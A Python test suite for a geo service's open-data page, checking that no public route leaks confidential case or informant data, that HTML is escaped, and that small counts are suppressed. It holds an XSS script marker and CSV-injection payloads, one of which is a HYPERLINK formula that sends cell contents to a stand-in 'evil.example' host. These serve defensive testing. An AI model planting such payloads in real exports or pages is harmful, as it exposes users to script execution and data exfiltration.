"""Open data and the transparency page (issue 17, part 2): a hostile data set walked through EVERY public route,
figures checked by hand, the DCAT catalogue's links, suppression of small counts, briefs marked public.

The hostile data set: a confidential case with party names, a parcel owner and notes, internal cases, incident
notes naming people, an informant's telephone and e-mail in the reporter field, ``<script>`` in every text field
(layers' credits and district names too), a neighbouring province (synthetic Nan) with its own records, and a
private brief beside a public one. ``tests/public_forbidden.py`` holds what may never come out.
"""

from __future__ import annotations

import csv
import io
import json
import math
import re
import uuid
import zipfile

import pytest
from PIL import ExifTags, Image
from sqlalchemy import text

from geo_service.exports.collections import COLLECTIONS
from geo_service.opendata import service as open_service
from geo_service.opendata.tables import suppress
from tests.conftest import ADMIN_TOKEN
from tests.provinces import NAN_POINT, PHRAE_POINT, load_nan
from tests.public_forbidden import (
    CASE_INTERNAL_TITLE,
    CASE_NOTE,
    CASE_SUMMARY,
    CASE_TITLE,
    FORBIDDEN_KEYS,
    FORBIDDEN_VALUES,
    INCIDENT_NOTE,
    INFORMANT,
    INFORMANT_DEVICE,
    PARCEL_OWNER,
    PARTY_NAME,
    XSS,
)
from tests.samples import post_viirs
from tests.test_role_matrix import POLICY, PUBLIC

# A second Phrae district: Long (5403)'s neighbourhood; the codes are read back from the answers.
SECOND_POINT = {"lat": 18.05, "lon": 100.05}
OPEN_TABLES = (
    "incidents_by_district_month",
    "clearing_by_district_month",
    "cases_by_stage_fiscal_year",
    "reference_layers",
    "committee_briefs",
)


def _incident(client, headers, point, observed_at, *, reporter=INFORMANT) -> dict:
    r = client.post(
        "/api/v1/incidents",
        headers=headers,
        json={
            "kind": "encroachment",
            "location": point,
            "observed_at": observed_at,
            "description": f"{INCIDENT_NOTE} {XSS}",
            "reporter": f"{reporter} {XSS}",
        },
    )
    assert r.status_code == 201, r.text
    return r.json()


def _case(client, headers, title, received_on, province="54", confidential=False) -> dict:
    r = client.post(
        "/api/v1/cases",
        headers=headers,
        json={
            "title": f"{title} {XSS}",
            "summary": f"{CASE_SUMMARY} {XSS}",
            "category": "encroachment_permitted",
            "received_on": received_on,
            "province_code": province,
            "confidentiality": "confidential" if confidential else "internal",
        },
    )
    assert r.status_code == 201, r.text
    return r.json()


def hostile_data(client, admin) -> dict:
    """The hostile data set (see the module's docstring); the ids and codes the tests need."""
    out: dict = {}
    # incidents: 6 in the first district (at PHRAE_POINT) in March 2024, one at 01:00 on 1 June in Bangkok (still 31 May in UTC), 2 in a
    # second district in March; April and May are empty; 3 in Nan (a neighbouring province) never counted
    first = [_incident(client, admin, PHRAE_POINT, f"2024-03-{d:02d}T10:00:00+07:00") for d in range(1, 7)]
    late = _incident(client, admin, PHRAE_POINT, "2024-05-31T18:00:00Z")
    second = [_incident(client, admin, SECOND_POINT, f"2024-03-1{d}T09:00:00+07:00") for d in range(2)]
    nan = [_incident(client, admin, NAN_POINT, f"2024-03-0{d}T09:00:00+07:00") for d in range(1, 4)]
    out["district_a"], out["second"] = first[0]["place"]["district"]["code"], second[0]["place"]["district"]["code"]
    assert out["district_a"] != out["second"] and late["place"]["district"]["code"] == out["district_a"]
    assert {i["place"]["province_code"] for i in nan} == {"55"}
    out["nan_district"] = nan[0]["place"]["district"]["code"]

    # cases: a confidential one with parties, a parcel owner, notes and a link; five internal ones received in
    # FY 2567 and one in FY 2566 (30 Sep 2023); one in Nan
    secret = _case(client, admin, CASE_TITLE, "2024-03-05", confidential=True)
    out["secret_case"] = secret
    for party in (
        {"name": f"{PARTY_NAME} {XSS}", "party_role": "suspect", "note": f"{PARCEL_OWNER} {XSS}"},
        {"name": f"{INFORMANT} {XSS}", "party_role": "informant", "position": XSS, "agency": XSS},
    ):
        r = client.post(f"/api/v1/cases/{secret['id']}/parties", headers=admin, json=party)
        assert r.status_code in (200, 201), r.text
    r = client.post(f"/api/v1/cases/{secret['id']}/notes", headers=admin, json={"body": f"{CASE_NOTE} {XSS}"})
    assert r.status_code in (200, 201), r.text
    r = client.post(
        f"/api/v1/cases/{secret['id']}/links",
        headers=admin,
        json={"target_type": "incident", "target_id": str(first[0]["id"]), "reason": f"{INCIDENT_NOTE} {XSS}"},
    )
    assert r.status_code in (200, 201), r.text
    for _ in range(5):
        _case(client, admin, CASE_INTERNAL_TITLE, "2024-03-05")
    _case(client, admin, CASE_INTERNAL_TITLE, "2023-09-30")
    _case(client, admin, CASE_INTERNAL_TITLE, "2024-03-05", province="55")

    # hotspots (public data): two in Phrae
    post_viirs(
        client,
        admin,
        [
            "18.2001,100.3012,330.0,0.4,0.4,2024-03-14,0630,N,VIIRS,h,2.0NRT,290.0,42.5,D\n",
            "18.0501,100.0501,330.0,0.4,0.4,2024-03-15,0630,N,VIIRS,n,2.0NRT,290.0,12.5,D\n",
        ],
    )

    # clearing patches (satellite alerts): the first district 2 patches in March (1.6 ha + 0.4 ha), one merged into the
    # first (not counted), the second district 1 patch in May (0.16 ha), one in Nan outside the area
    with client.app.state.engine.begin() as c:
        ingest = c.execute(
            text(
                "INSERT INTO forest_alert_ingests (source, encoding, file_name, file_sha256, params_key, crs) "
                "VALUES ('glad_l', 'glad', :f, repeat('a', 64), 'k1', 'EPSG:4326') RETURNING id"
            ),
            {"f": f"{INFORMANT} {XSS}"},
        ).scalar_one()
        patches = [
            (out["district_a"], "2024-03-05", 16_000.0, True, None),
            (out["district_a"], "2024-03-31", 4_000.0, True, None),
            (out["district_a"], "2024-03-20", 9_000.0, True, "merged"),
            (out["second"], "2024-05-02", 1_600.0, True, None),
            (out["nan_district"], "2024-03-10", 50_000.0, False, None),
        ]
        ids = []
        for district, day, m2, in_aoi, merged in patches:
            ids.append(
                c.execute(
                    text("""
                    INSERT INTO clearing_patches (sources, first_date, last_date, pixels, area_m2, confidence_max,
                        province_code, district_code, in_aoi, verification, verified_by, merged_into,
                        first_ingest_id, last_ingest_id, geom, fire_evidence)
                    VALUES (ARRAY['glad_l'], CAST(:d AS date), CAST(:d AS date), 10, :m2, 3, :p, :district, :aoi,
                        'verified', :who, :merged, :i, :i,
                        ST_Multi(ST_Buffer(ST_SetSRID(ST_MakePoint(100.3, 18.2), 4326), 0.001)),
                        CAST(:ev AS jsonb))
                    RETURNING id"""),
                    {
                        "d": day,
                        "m2": m2,
                        "p": "55" if not in_aoi else "54",
                        "district": district,
                        "aoi": in_aoi,
                        "who": f"{INFORMANT} {XSS}",
                        "merged": ids[0] if merged else None,
                        "i": ingest,
                        "ev": json.dumps({"note": PARCEL_OWNER}),
                    },
                ).scalar_one()
            )
            # its zones, as the ingest's attribution writes them (the figures count the parts in each district)
            c.execute(
                text(
                    "INSERT INTO clearing_patch_zones (patch_id, zone_type, zone_code, area_m2, share) "
                    "VALUES (:id, 'province', :p, :m2, 1), (:id, 'district', :district, :m2, 1)"
                ),
                {"id": ids[-1], "p": "55" if not in_aoi else "54", "district": district, "m2": m2},
            )
        # hostile text in what the public does see: layer credits and district names (escaped, never run)
        c.execute(
            text(
                "UPDATE layer_sources SET licence = licence || ' ' || :h, attribution = attribution || ' ' || :h, "
                "source = source || ' ' || :h, title = coalesce(title, '') || ' ' || :h"
            ),
            {"h": XSS},
        )
        c.execute(text("UPDATE admin_areas SET name_en = name_en || ' ' || :h WHERE level = 'district'"), {"h": XSS})

    # a report from the public: its contact details, a description naming people, and a photo with EXIF and GPS;
    # it stays in the triage queue (an accepted one would be an incident, counted above)
    exif = Image.Exif()
    exif[0x0110] = INFORMANT_DEVICE
    exif[ExifTags.IFD.GPSInfo] = {1: "N", 2: (18.0, 8.0, 42.5), 3: "E", 4: (100.0, 8.0, 30.0)}
    photo = io.BytesIO()
    Image.new("RGB", (64, 48), (10, 120, 30)).save(photo, "JPEG", exif=exif)
    citizen = {
        "kind": "encroachment",
        "location": PHRAE_POINT,
        "description": f"{INCIDENT_NOTE} {XSS}",
        "contact": {"name": f"{INFORMANT} {XSS}", "phone": "081-999-1234", "email": "kham.informant@example.com"},
    }
    r = client.post(
        "/api/v1/citizen/reports",
        data={"report": json.dumps(citizen, ensure_ascii=False)},
        files=[("photos", ("p.jpg", photo.getvalue(), "image/jpeg"))],
        headers={"Idempotency-Key": str(uuid.uuid4())},
    )
    assert r.status_code in (200, 201), r.text
    out["receipt"] = r.json()["receipt"]

    # briefs: one made public, one kept private
    briefs = []
    for quarter in (2, 3):
        r = client.post(
            "/api/v1/briefs", headers=admin, json={"fiscal_year_be": 2567, "quarter": quarter, "province": "54"}
        )
        assert r.status_code == 201, r.text
        briefs.append(r.json()["id"])
    r = client.put(f"/api/v1/briefs/{briefs[0]}/public", headers=admin, json={"public": True})
    assert r.status_code == 200 and r.json()["public"] is True, r.text
    out["public_brief"], out["private_brief"] = briefs
    out["secret_reference"] = secret["reference"]
    return out


@pytest.fixture
def world(db_url, sessionmaker_for, client_factory, admin_headers):
    """The app on a database holding Phrae and a neighbouring Nan, the area of interest Phrae alone, and the
    hostile data set."""
    load_nan(sessionmaker_for(db_url))
    client = client_factory(db_url, aoi_provinces="54")
    data = hostile_data(client, admin_headers)
    return client, data


# --- what a response may not carry ---------------------------------------------------------------------------
def _strings_and_keys(value, keys: set[str], strings: list[str]) -> None:
    if isinstance(value, dict):
        for k, v in value.items():
            keys.add(str(k))
            _strings_and_keys(v, keys, strings)
    elif isinstance(value, list):
        for v in value:
            _strings_and_keys(v, keys, strings)
    elif isinstance(value, str):
        strings.append(value)


def leaks(url: str, response, forbidden_values: list[str]) -> list[str]:
    """What of the forbidden keys and values a public response carries, and raw hostile markup in HTML."""
    ctype = response.headers.get("content-type", "").split(";")[0].strip()
    body = response.content
    texts = [body.decode("utf-8", errors="ignore")]
    if ctype == "application/zip" or body[:4] == b"PK\x03\x04":
        with zipfile.ZipFile(io.BytesIO(body)) as z:
            texts = [z.read(n).decode("utf-8", errors="ignore") for n in z.namelist()]
    keys: set[str] = set()
    strings: list[str] = []
    if ctype.endswith("json"):
        _strings_and_keys(response.json(), keys, strings)  # \\u escapes decoded
    elif ctype == "application/geo+json-seq":
        for line in texts[0].splitlines():
            if line.strip():
                _strings_and_keys(json.loads(line.lstrip("\x1e")), keys, strings)
    for t in texts:
        if t.startswith("\ufeff") or ctype == "text/csv" or url.endswith(".csv") or "f=csv" in url:
            first = t.lstrip("\ufeff").splitlines()[:1]
            keys.update(next(csv.reader(first), []) if first else [])
    if url.split("?")[0] in API_DOCUMENTS:
        keys = set()  # an API's description: "summary" and the like name operations, not records
    out = [f"{url}: key {k!r}" for k in sorted(keys & set(FORBIDDEN_KEYS))]
    everything = "\n".join(texts + strings)
    out += [f"{url}: value {v!r}" for v in forbidden_values if v in everything]
    if ctype == "text/html" and XSS in texts[0]:
        out.append(f"{url}: unescaped {XSS!r}")
    return out


API_DOCUMENTS = ("/ogc/api", "/openapi.json")


def _tile(lat: float, lon: float, z: int) -> str:
    n = 2**z
    x = int((lon + 180) / 360 * n)
    y = int((1 - math.asinh(math.tan(math.radians(lat))) / math.pi) / 2 * n)
    return f"{z}/{y}/{x}"


def public_urls(client, data) -> list[str]:
    """Every public GET route of the app (POLICY of tests/test_role_matrix.py), each path parameter filled with
    real values (every collection, a real feature, both briefs), plus the formats and the open tables."""
    districts = [data["district_a"], data["second"]]
    subdistrict = client.get("/api/v1/subdistricts", params={"district": data["district_a"]}).json()["features"][0]
    features: dict[str, list[str]] = {}
    for name, c in COLLECTIONS.items():
        if c.public:
            page = client.get(f"/ogc/collections/{name}/items", params={"limit": 2, "f": "json"}).json()
            features[name] = [str(f["id"]) for f in page.get("features", [])]
    fills = {
        "{code}": districts + [subdistrict["properties"]["code"], "NRF-PR-001"],
        "{name}": [],  # by route, below
        "{raster_id}": ["1", "999999"],
        "{brief_id}": [str(data["public_brief"]), str(data["private_brief"])],
        "{tms}": ["WebMercatorQuad"],
        "{tile_matrix}/{tile_row}/{tile_col}": [_tile(PHRAE_POINT["lat"], PHRAE_POINT["lon"], z) for z in (8, 12)],
    }
    urls: list[str] = []
    paths = sorted(p for (m, p), policy in POLICY.items() if policy == PUBLIC and m == "GET")
    assert {"/open", "/catalog.json", "/open/data/{name}.csv", "/open/briefs/{brief_id}.pdf"} <= set(paths)
    for path in paths:
        expanded = [path]
        for param, values in fills.items():
            if param == "{name}":
                values = [*OPEN_TABLES, "hotspots"] if path.startswith("/open/") else sorted(COLLECTIONS)
            if param in path:
                expanded = [e.replace(param, v) for e in expanded for v in values]
        for url in expanded:
            if "{feature_id}" in url:
                name = url.split("/")[3]
                urls += [url.replace("{feature_id}", f) for f in features.get(name, ["999999"])]
            elif "{" in url:
                raise AssertionError(f"no value for a parameter of {url}")
            else:
                urls.append(url)
    extra = []
    for name in COLLECTIONS:
        extra += [f"/api/v1/exports/{name}?f={f}" for f in ("csv", "ndjson", "kml")]
        extra += [f"/ogc/collections/{name}/items?f=html", f"/ogc/collections/{name}?f=html"]
    extra += ["/ogc?f=html", "/ogc/collections?f=html", "/field", "/signin", "/docs", "/redoc"]
    return urls + extra


@pytest.mark.slow
def test_no_public_route_carries_confidential_data_and_html_is_escaped(world):
    client, data = world
    forbidden = [*FORBIDDEN_VALUES, data["secret_reference"]]
    urls = public_urls(client, data)
    assert len(urls) >= 180, len(urls)  # 202 when written
    failures, statuses = [], {}
    for url in urls:
        r = client.get(url)  # anonymous: what the public gets
        statuses[url] = r.status_code
        if r.status_code >= 500:
            failures.append(f"{url}: {r.status_code}")
        failures += leaks(url, r, forbidden)
    assert failures == [], "\n".join(failures)
    # the walk reached real content, not only refusals
    ok = [u for u, s in statuses.items() if s == 200]
    assert len(ok) >= 60, statuses
    for must in ("/open", "/catalog.json", f"/open/briefs/{data['public_brief']}.pdf", "/api/v1/exports/hotspots"):
        assert statuses[must] == 200, must
    assert statuses[f"/open/briefs/{data['private_brief']}.pdf"] == 404
    # the public PDF is rendered once and kept: the same bytes again
    first = client.get(f"/open/briefs/{data['public_brief']}.pdf").content
    assert first.startswith(b"%PDF") and client.get(f"/open/briefs/{data['public_brief']}.pdf").content == first
    # hostile markup reaches the page escaped: the layers' credits and the district names
    page = client.get("/open").text
    assert "&lt;script&gt;window.__pwned=1&lt;/script&gt;" in page
    # the brief's PDF is made from its stored figures and this page: neither holds the case's text
    with client.app.state.sessionmaker() as s, s.begin():
        html = open_service.public_brief_html(s, data["public_brief"])
    assert [v for v in forbidden if v in html] == []


@pytest.mark.slow  # the hostile data set takes about 15 s to build
def test_the_walk_sees_a_leak(world):
    """The checker itself: a response carrying a forbidden key, value or raw markup is reported."""
    client, data = world
    r = client.get(f"/api/v1/cases/{data['secret_case']['id']}", headers={"Authorization": f"Bearer {ADMIN_TOKEN}"})
    found = leaks("/api/v1/cases/x", r, FORBIDDEN_VALUES)
    assert any("SECRET-CASE-7731" in f for f in found) and any("key 'summary'" in f for f in found), found


# --- the figures, by hand -----------------------------------------------------------------------------------
def _csv(client, name: str) -> list[dict]:
    r = client.get(f"/open/data/{name}.csv")
    assert r.status_code == 200, r.text
    assert r.headers["content-type"].startswith("text/csv") and r.content.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(r.content.decode("utf-8-sig"))))


@pytest.mark.slow  # the hostile data set takes about 15 s to build
def test_incident_counts_by_district_and_month(world):
    client, data = world
    rows = _csv(client, "incidents_by_district_month")
    got = {(r["district_code"], r["month"]): (r["count"], r["count_text"], r["suppressed"]) for r in rows}
    # every Phrae district x March-June 2024 (April and May empty: zeros, not gaps); no Nan district
    assert {m for _, m in got} == {"2024-03", "2024-04", "2024-05", "2024-06"}
    assert len({d for d, _ in got}) == 8 and data["nan_district"] not in {d for d, _ in got}
    assert got[(data["district_a"], "2024-03")] == ("6", "6", "false")
    assert got[(data["district_a"], "2024-04")] == ("0", "0", "false")
    assert got[(data["district_a"], "2024-05")] == ("0", "0", "false")  # 31 May 18:00 UTC is 1 June in Bangkok
    assert got[(data["district_a"], "2024-06")] == ("", "<5", "true")
    assert got[(data["second"], "2024-03")] == ("", "<5", "true")
    shown = {k: v for k, v in got.items() if v[1] != "0"}
    assert len(shown) == 3  # nothing else was counted
    march = next(r for r in rows if r["district_code"] == data["district_a"] and r["month"] == "2024-03")
    assert march["month_th"] == "มี.ค. 2567" and march["fiscal_year_be"] == "2567"
    # the page: the same cells, "<5" for the small ones, and the note that says why
    page = client.get("/open").text
    assert 'id="suppression"' in page and "&lt;5" in page
    table = page.split('id="incidents_by_district_month"')[1].split("</section>")[0]
    assert table.count('class="n suppressed">&lt;5</td>') == 2 and ">6</td>" in table


@pytest.mark.slow  # the hostile data set takes about 15 s to build
def test_clearing_counts_and_areas_by_district_and_month(world):
    client, data = world
    rows = _csv(client, "clearing_by_district_month")
    got = {(r["district_code"], r["month"]): (r["patches"], r["area_ha"], r["area_rai"]) for r in rows}
    assert {m for _, m in got} == {"2024-03", "2024-04", "2024-05"}
    # 16,000 + 4,000 m2 = 2 ha = 12.5 rai (the merged patch not counted); 1,600 m2 = 0.16 ha = 1 rai
    assert got[(data["district_a"], "2024-03")] == ("2", "2.0", "12.5")
    assert got[(data["district_a"], "2024-04")] == ("0", "0.0", "0.0")
    assert got[(data["second"], "2024-05")] == ("1", "0.16", "1.0")
    assert sum(int(v[0]) for v in got.values()) == 3  # Nan's patch (outside the area) not counted
    fc = client.get("/open/data/clearing_by_district_month.geojson")
    assert fc.status_code == 200 and fc.headers["content-type"] == "application/geo+json"
    feature = next(f for f in fc.json()["features"] if f["properties"]["district_code"] == data["district_a"])
    assert feature["geometry"]["type"] in ("Polygon", "MultiPolygon")


@pytest.mark.slow  # the hostile data set takes about 15 s to build
def test_cases_by_stage_and_fiscal_year_counts_only(world):
    client, _ = world
    rows = _csv(client, "cases_by_stage_fiscal_year")
    assert set(rows[0]) == {"fiscal_year_be", "stage", "stage_th", "stage_en", "count", "count_text", "suppressed"}
    got = {(r["fiscal_year_be"], r["stage"]): r["count_text"] for r in rows}
    # FY 2567: the five internal cases (the confidential one and Nan's not counted); FY 2566: one, hidden
    assert got[("2567", "received")] == "5"
    assert got[("2566", "received")] == "<5"
    assert {v for k, v in got.items() if k not in {("2567", "received"), ("2566", "received")}} == {"0"}


def test_suppression_threshold_and_enabled_datasets_are_settings(db_url, sessionmaker_for, client_factory):
    assert suppress(0, 5) == (0, "0") and suppress(4, 5) == (None, "<5") and suppress(5, 5) == (5, "5")
    assert suppress(1, 1) == (1, "1")
    client = client_factory(db_url, threshold=3, datasets="hotspots,cases_by_stage_fiscal_year")
    catalog = client.get("/catalog.json").json()
    assert [d["dct:identifier"] for d in catalog["dcat:dataset"]] == ["hotspots", "cases_by_stage_fiscal_year"]
    assert client.get("/open/data/incidents_by_district_month.csv").status_code == 404
    assert "&lt;3" in client.get("/open").text
    assert client.get("/open/data/no_such.csv").status_code == 404


# --- the catalogue --------------------------------------------------------------------------------------------
@pytest.mark.slow
def test_catalogue_is_dcat_and_every_download_answers_with_its_media_type(world):
    client, data = world
    r = client.get("/catalog.json")
    assert r.status_code == 200 and r.headers["content-type"] == "application/ld+json"
    cat = r.json()
    assert cat["@type"] == "dcat:Catalog" and cat["@context"]["dcat"] == "http://www.w3.org/ns/dcat#"
    assert {d["dct:identifier"] for d in cat["dcat:dataset"]} == {
        "hotspots",
        "fire_events",
        *OPEN_TABLES,
    }
    checked = 0
    for ds in cat["dcat:dataset"]:
        assert {x["@language"] for x in ds["dct:title"]} == {"th", "en"}
        assert ds["dct:license"]["@id"].startswith("https://")
        assert ds["dct:accrualPeriodicity"]["@id"].startswith(
            "http://publications.europa.eu/resource/authority/frequency/"
        )
        assert ds["dct:publisher"]["foaf:name"][0]["@value"]
        assert ds["dct:spatial"]["dcat:bbox"]["@value"].startswith("POLYGON((")
        assert ds["dct:modified"], ds["dct:identifier"]  # every dataset has data here
        if ds["dct:identifier"] == "reference_layers":  # boundaries have versions, not a period
            assert "dct:temporal" not in ds
        else:
            assert ds["dct:temporal"]["dcat:startDate"] <= ds["dct:temporal"]["dcat:endDate"], ds["dct:identifier"]
        for dist in ds["dcat:distribution"]:
            url = dist["dcat:downloadURL"]
            assert url.startswith("http://testserver/"), url
            got = client.get(url.removeprefix("http://testserver"))
            assert got.status_code == 200, (url, got.text[:300])
            assert got.headers["content-type"].split(";")[0] == dist["dcat:mediaType"], url
            if dist["dcat:mediaType"] == "application/pdf":
                assert got.content.startswith(b"%PDF")
            checked += 1
    assert checked == 2 * 3 + 5 * 2 + 1  # collections: GeoJSON, CSV zip, OGC items; tables: CSV, GeoJSON; a PDF
    by_id = {d["dct:identifier"]: d for d in cat["dcat:dataset"]}
    assert by_id["incidents_by_district_month"]["dct:temporal"] == {
        "@type": "dct:PeriodOfTime",
        "dcat:startDate": "2024-03-01",
        "dcat:endDate": "2024-06-30",
    }
    assert by_id["cases_by_stage_fiscal_year"]["dct:temporal"]["dcat:startDate"] == "2022-10-01"  # FY 2566
    pdfs = [d for d in by_id["committee_briefs"]["dcat:distribution"] if d["dcat:mediaType"] == "application/pdf"]
    assert [p["dcat:downloadURL"] for p in pdfs] == [f"http://testserver/open/briefs/{data['public_brief']}.pdf"]


# --- briefs marked public -------------------------------------------------------------------------------------
def test_marking_a_brief_public_is_for_administrators_and_audited(client, admin_headers, login):
    r = client.post("/api/v1/briefs", headers=admin_headers, json={"fiscal_year_be": 2567, "province": "54"})
    assert r.status_code == 201, r.text
    brief = r.json()["id"]
    committee = login("committee1", "committee_member")
    assert client.put(f"/api/v1/briefs/{brief}/public", headers=committee, json={"public": True}).status_code == 403
    assert client.put(f"/api/v1/briefs/{brief}/public", json={"public": True}).status_code == 401
    assert client.get(f"/open/briefs/{brief}.pdf").status_code == 404  # not public yet
    assert "/open/briefs/" not in client.get("/open").text
    r = client.put(f"/api/v1/briefs/{brief}/public", headers=admin_headers, json={"public": True})
    assert r.status_code == 200 and r.json()["published_by"] == "admin", r.text
    assert f"/open/briefs/{brief}.pdf" in client.get("/open").text
    assert [
        b["id"]
        for b in csv.DictReader(io.StringIO(client.get("/open/data/committee_briefs.csv").text.lstrip("\ufeff")))
    ] == [str(brief)]
    r = client.put(f"/api/v1/briefs/{brief}/public", headers=admin_headers, json={"public": False})
    assert r.status_code == 200 and r.json() == {
        "id": brief,
        "public": False,
        "published_at": None,
        "published_by": None,
    }
    assert client.get(f"/open/briefs/{brief}.pdf").status_code == 404
    assert client.put("/api/v1/briefs/999999/public", headers=admin_headers, json={"public": True}).status_code == 404
    assert (
        client.put(f"/api/v1/briefs/{brief}/public", headers=admin_headers, json={"public": "maybe"}).status_code == 422
    )
    with client.app.state.engine.begin() as c:
        actions = (
            c.execute(
                text(
                    "SELECT after->>'public' FROM audit_log WHERE entity_type = 'brief' AND action = 'update' ORDER BY id"
                )
            )
            .scalars()
            .all()
        )
    assert actions == ["true", "false"]


def test_open_page_works_without_data(client):
    """A fresh deployment: the page, the catalogue and every table answer (empty), nothing fails."""
    page = client.get("/open")
    assert page.status_code == 200 and page.headers["content-type"].startswith("text/html")
    assert '<html lang="th">' in page.text and "<script" not in page.text
    assert page.headers["content-security-policy"].startswith("default-src 'self'")
    assert client.get("/catalog.json").status_code == 200
    for name in OPEN_TABLES:
        assert client.get(f"/open/data/{name}.csv").status_code == 200, name
        fc = client.get(f"/open/data/{name}.geojson").json()
        assert fc["type"] == "FeatureCollection"
    assert re.search(r"ยังไม่มีข้อมูล", page.text)


def test_bad_addresses_are_a_4xx_without_the_value_sent_back(client, admin_headers):
    for url in (
        "/open/briefs/99999999999999999999.pdf",
        "/open/briefs/-1.pdf",
        "/open/data/%00.csv",
        "/open/data/x.geojson",
    ):
        r = client.get(url)
        assert r.status_code == 404 and r.json()["error"]["code"] == "not_found", url
        assert "\\x00" not in r.text and "'x'" not in r.text
    assert client.get("/open/briefs/abc.pdf").status_code == 422
    r = client.put("/api/v1/briefs/99999999999999999999/public", headers=admin_headers, json={"public": True})
    assert r.status_code == 404
    r = client.get("/open/data/hotspots.csv")  # served by the OGC API, said so
    assert r.status_code == 404 and "/ogc/collections/hotspots" in r.json()["error"]["message"]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(client, db_url, sessionmaker_for):
    """CSV injection: a text cell starting with = + - @ (or a tab, or their full-width forms) is prefixed with ' so
    that Excel or LibreOffice show it as text; numbers (negative ones too), empty and Thai text are unchanged."""
    assert open_service.csv_cell('=HYPERLINK("http://evil","x")') == '\'=HYPERLINK("http://evil","x")'
    for hostile in ("+1+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "＝1", "＋1", "－1", "＠x"):
        assert open_service.csv_cell(hostile) == "'" + hostile, hostile
    assert [open_service.csv_cell(v) for v in (-3, -1.5, 0, None, True, False, "แพร่", "a=b", "")] == [
        -3,
        -1.5,
        0,
        "",
        "true",
        "false",
        "แพร่",
        "a=b",
        "",
    ]
    hostile = '=HYPERLINK("http://evil.example/?x="&A1,"credit")'
    with sessionmaker_for(db_url).begin() as s:  # a layer's credit as a hostile loader might write it
        s.execute(text("UPDATE layer_sources SET attribution = :a, title = '@cmd'"), {"a": hostile})
    rows = _csv(client, "reference_layers")
    assert rows and all(r["attribution"] == "'" + hostile and r["title"] == "'@cmd" for r in rows)
    assert all(not r["feature_count"].startswith("'") for r in rows)


def test_public_brief_names_no_staff_and_the_page_says_briefs_show_small_counts(client, admin_headers, login):
    """A published brief (page and PDF) leaves out its author's user name, which staff still read; /open says
    next to the briefs that a brief shows its counts as approved, small ones included."""
    author = login("brief.author7", "administrator")
    r = client.post("/api/v1/briefs", headers=author, json={"fiscal_year_be": 2567, "province": "54"})
    assert r.status_code == 201, r.text
    brief = r.json()["id"]
    with client.app.state.sessionmaker() as s, s.begin():
        from geo_service.reports import brief as brief_pages

        assert "by brief.author7" in brief_pages.brief_html(s, brief)  # staff's copy
    assert client.put(f"/api/v1/briefs/{brief}/public", headers=admin_headers, json={"public": True}).status_code == 200
    with client.app.state.sessionmaker() as s, s.begin():
        public_html = open_service.public_brief_html(s, brief)
    assert "brief.author7" not in public_html and f"Brief no. {brief}, made " in public_html
    pdf = client.get(f"/open/briefs/{brief}.pdf")
    assert pdf.status_code == 200 and b"brief.author7" not in pdf.content
    page = client.get("/open").text
    note = re.search(r'<p class="note" id="brief-counts">(.*?)</p>', page, re.S)
    assert note and "below 5" in note.group(1) and "&lt;5" in note.group(1)
